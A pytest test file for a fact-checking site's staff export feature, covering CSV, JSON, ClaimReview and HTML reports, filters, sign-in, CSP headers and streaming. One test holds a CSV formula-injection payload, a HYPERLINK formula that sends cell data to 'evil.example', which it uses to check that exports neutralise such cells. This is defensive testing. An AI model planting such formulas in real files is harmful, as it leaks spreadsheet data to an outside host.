"""/exports: verdict reports for signed-in staff, filtered, streamed, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from typing import Any

import anyio
import pytest

from factcheck.publishing import chunk_processes, csv_text, exports, records
from tests.builders import make_article, make_claim
from tests.conftest import count_queries
from tests.publishing.helpers import publish, publish_correction, reopen


def today() -> date:
    """Read when asked, not at import: a test that runs across midnight (UTC) spans two days."""
    return datetime.now(UTC).date()


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_the_export_page_offers_formats_and_filters(as_checker) -> None:
    html = as_checker.get("/exports").text
    for name in ("csv", "json", "claimreview", "html"):
        assert f'name="format" value="{name}"' in html
    for field in ("state", "rating", "since", "until", "article", "claimant"):
        assert f'name="{field}"' in html
    assert '<script src="/static/exports.js" defer></script>' in html


def test_csv_has_a_header_and_one_row_per_claim_with_its_current_verdict(
    as_checker, db, checker, editor
) -> None:
    first_day = today()
    published = db.run(lambda s: publish(s, by=checker, editor=editor))
    db.run(lambda s: make_claim(s, state="queued", text="Waiting in the queue", by=checker))
    response = as_checker.get("/exports/download", params={"format": "csv"})
    last_day = today()
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.match(
        r'attachment; filename="factcheck-csv-\d{8}-\d{6}\.csv"', response.headers["content-disposition"]
    )
    assert response.headers["x-export-rows"] == "2"
    assert response.text.splitlines()[0] == ",".join(csv_text.CSV_COLUMNS)
    rows = {r["claim"]: r for r in rows_of(response)}
    assert set(rows) == {"Russia is using dumb bombs in Syria", "Waiting in the queue"}
    done = rows["Russia is using dumb bombs in Syria"]
    assert done["claim_id"] == str(published.id) and done["state"] == "published"
    assert (done["rating"], done["rating_value"], done["verdict_status"]) == ("Mostly true", "4", "published")
    assert done["public_url"].startswith("http://testserver.local/fact-checks/russia-is-using-dumb-bombs")
    assert first_day.isoformat() <= done["first_published"][:10] <= last_day.isoformat()
    assert done["sources"] == "1"
    waiting = rows["Waiting in the queue"]
    assert (waiting["public_url"], waiting["rating"], waiting["verdict_status"]) == ("", "", "")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(trigger, as_checker, db, checker) -> None:
    payload = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
    claim = db.run(lambda s: make_claim(s, state="queued", by=checker))
    # Written straight to the table: the forms strip leading whitespace, but the writer must not
    # rely on how text got into the database (an import, the API, an older version).
    db.run(lambda s: _set_text(s, claim.id, payload))
    [row] = rows_of(as_checker.get("/exports/download", params={"format": "csv"}))
    assert row["claim"] == "'" + payload
    assert row["claimant"] == "'" + payload
    for cell in row.values():
        assert not cell.startswith(records.FORMULA_TRIGGERS), cell


async def _set_text(session: Any, claim_id: Any, text: str) -> None:
    from sqlalchemy import update

    from factcheck.claims.models import Claim

    await session.execute(update(Claim).where(Claim.id == claim_id).values(text=text, claimant=text))
    await session.commit()


def test_json_has_the_full_record_with_sources_and_revisions(as_editor, db, checker, editor) -> None:
    claim = db.run(lambda s: publish(s, by=checker, editor=editor, article=None))
    db.run(lambda s: publish_correction(s, claim, by=checker, editor=editor))
    response = as_editor.get("/exports/download", params={"format": "json"})
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert body["count"] == 1
    [record] = body["claims"]
    assert record["id"] == str(claim.id) and record["state"] == "published"
    assert [r["revision"] for r in record["revisions"]] == [2, 1]
    assert record["revisions"][0]["correction_note"].startswith("We first said Mostly true")
    assert record["revisions"][1]["rationale"] == "Amnesty International documented **unguided** bombs."
    assert record["verdict"]["rating"] == "Half true"
    assert record["sources"][0]["stance"] == "supports"
    assert record["first_published_at"] <= record["last_published_at"]
    assert all(r["published_at"] for r in record["revisions"])


def test_the_html_report_has_a_summary_a_chart_and_a_section_per_claim(
    as_editor, db, checker, editor
) -> None:
    db.run(lambda s: publish(s, by=checker, editor=editor, text="One mostly true"))
    db.run(lambda s: publish(s, by=checker, editor=editor, text="One false", rating="False"))
    db.run(lambda s: make_claim(s, state="candidate", text="Not checked yet", by=checker))
    response = as_editor.get("/exports/download", params={"format": "html"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/html")
    assert response.headers["content-disposition"].startswith("inline;")
    html = response.text
    assert '<table class="summary">' in html and "<caption>Table 1. Claims by rating</caption>" in html
    assert re.search(r'<svg [^>]*role="img" aria-labelledby="chart-title chart-desc"', html)
    assert '<title id="chart-title">Claims by rating</title>' in html
    assert "3 claims by rating. Mostly true: 1; False: 1; No verdict yet: 1." in html
    assert html.count('<rect class="bar ') == 3
    assert html.count('<article class="report-claim"') == 3
    assert '<span class="rating-label tone-0">False</span>' in html
    assert ".report .report-claim { break-before: page;" in html  # page breaks between claims
    assert "<script" not in html


def test_the_html_report_allows_only_its_own_stylesheet(as_editor) -> None:
    from factcheck.publishing.report import PRINT_CSS, REPORT_CSP

    response = as_editor.get("/exports/download", params={"format": "html"})
    assert response.headers["content-security-policy"] == REPORT_CSP
    assert "script-src" not in REPORT_CSP and "default-src 'none'" in REPORT_CSP
    assert f"<style>{PRINT_CSS}</style>" in response.text  # exactly the text whose hash is allowed


def test_the_filters_select_the_claims(as_editor, db, checker, editor) -> None:
    first_day = today()
    article = db.run(make_article)
    db.run(lambda s: publish(s, by=checker, editor=editor, text="From the article", article=article))
    db.run(lambda s: publish(s, by=checker, editor=editor, text="Said by Lavrov", claimant="Sergei Lavrov"))
    db.run(lambda s: publish(s, by=checker, editor=editor, text="A false one", rating="False"))
    db.run(lambda s: make_claim(s, state="researching", text="Being researched", by=checker))

    def claims(**params: str) -> set[str]:
        response = as_editor.get("/exports/download", params={"format": "csv", **params})
        assert response.status_code == 200, response.text
        return {r["claim"] for r in rows_of(response)}

    assert claims(state="researching") == {"Being researched"}
    assert claims(rating="false") == {"A false one"}
    assert claims(article=str(article.id)) == {"From the article"}
    assert claims(claimant="lavrov") == {"Said by Lavrov"}
    last_day = today()
    everything = {"From the article", "Said by Lavrov", "A false one", "Being researched"}
    assert claims(since=first_day.isoformat(), until=last_day.isoformat()) == everything
    assert claims(since=(last_day + timedelta(days=1)).isoformat()) == set()
    assert claims(until=(first_day - timedelta(days=1)).isoformat()) == set()


def test_claimreview_exports_only_public_fact_checks(as_editor, db, checker, editor) -> None:
    db.run(lambda s: publish(s, by=checker, editor=editor, text="Published"))
    under = db.run(lambda s: publish(s, by=checker, editor=editor, text="Under correction"))
    db.run(lambda s: reopen(s, under, editor=editor))
    db.run(lambda s: make_claim(s, state="approved", text="Approved only", by=checker, editor=editor))
    response = as_editor.get("/exports/download", params={"format": "claimreview"})
    assert response.headers["x-export-rows"] == "2"
    reviewed = {e["item"][0]["claimReviewed"] for e in response.json()["dataFeedElement"]}
    assert reviewed == {"Published", "Under correction"}


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        (
            {"since": "2016-03-01", "until": "2016-02-01"},
            "until",
            "The end date 2016-02-01 is before the start",
        ),
        ({"state": "pending"}, "state", "Unknown state &#39;pending&#39;"),
        ({"rating": "Pants on fire"}, "rating", "Unknown rating &#39;Pants on fire&#39;"),
        ({"since": "04/02/2016"}, "since", "is not a date; write it as YYYY-MM-DD"),
        ({"article": "not-an-id"}, "article", "is not an article id"),
        ({"article": "01a211bf-cdc8-74af-ab57-7919b6cb0fd9"}, "article", "There is no article with id"),
        ({"format": "pdf"}, "format", "Unknown format &#39;pdf&#39;"),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_filters_that_make_no_sense_get_the_form_back_with_a_message(
    params, field, message, as_checker
) -> None:
    response = as_checker.get("/exports/download", params={"format": "csv", **params})
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert "content-disposition" not in response.headers  # never a file that looks like a result
    assert message in response.text
    assert f'name="{field}"' in response.text
    typed = next(iter(params.values()))
    assert typed.replace("'", "&#39;") in response.text  # what was typed is kept


def test_exports_need_sign_in(client) -> None:
    response = client.get("/exports/download", params={"format": "csv"}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/login")


def test_the_response_starts_before_the_export_is_built(as_editor, db, checker, monkeypatch, app) -> None:
    """The first bytes leave while most rows are still unread: the export is streamed. Read in the
    app, whose statements are counted here (a big SQLite export's reader processes read ahead on
    their own: test_export_processes.py)."""
    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
    monkeypatch.setattr(chunk_processes, "PROCESSES_FROM_CHUNKS", 10**9)
    for n in range(7):
        db.run(lambda s, n=n: make_claim(s, state="queued", text=f"Claim number {n}", by=checker))
    cookies = "; ".join(f"{k}={v}" for k, v in as_editor.cookies.items())
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/exports/download",
        "raw_path": b"/exports/download",
        "root_path": "",
        "query_string": b"format=csv",
        "headers": [(b"host", b"testserver.local"), (b"cookie", cookies.encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver.local", 80),
    }
    sent: list[tuple[str, bool, int]] = []

    with count_queries(app) as statements:

        def chunks_read() -> int:
            # Not the statement that finds where each chunk starts (a window over the ids).
            return sum("ORDER BY claim.id DESC" in s and "row_number" not in s for s in statements.statements)

        requested: list[bool] = []
        finished = anyio.Event()

        async def receive() -> dict[str, Any]:
            if not requested:
                requested.append(True)
                return {"type": "http.request", "body": b"", "more_body": False}
            await finished.wait()  # a streaming response listens for the client going away
            return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.body":
                if message.get("body"):
                    sent.append((message["body"].decode(), message.get("more_body", False), chunks_read()))
                if not message.get("more_body", False):
                    finished.set()

        as_editor.blocking_portal.call(app, scope, receive, send)
        total_chunks = chunks_read()

    assert total_chunks == 4  # 7 rows, 2 at a time
    first_body, more_to_come, chunks_read_by_then = sent[0]
    assert first_body.startswith("claim_id,public_url,claim")
    assert more_to_come and chunks_read_by_then < total_chunks
    assert len(sent) > 2
    assert "".join(body for body, _, _ in sent).count("Claim number") == 7


def test_the_revisions_read_are_the_single_claim_jsons_revision_rows() -> None:
    # Review mend: one column list for the page's ``RevisionRow`` and the export's records.
    from dataclasses import fields

    from factcheck.publishing.report_reads import REVISION_COLUMNS
    from factcheck.publishing.service import RevisionRow

    assert [f.name for f in fields(RevisionRow)] == ["claim_id", *REVISION_COLUMNS]
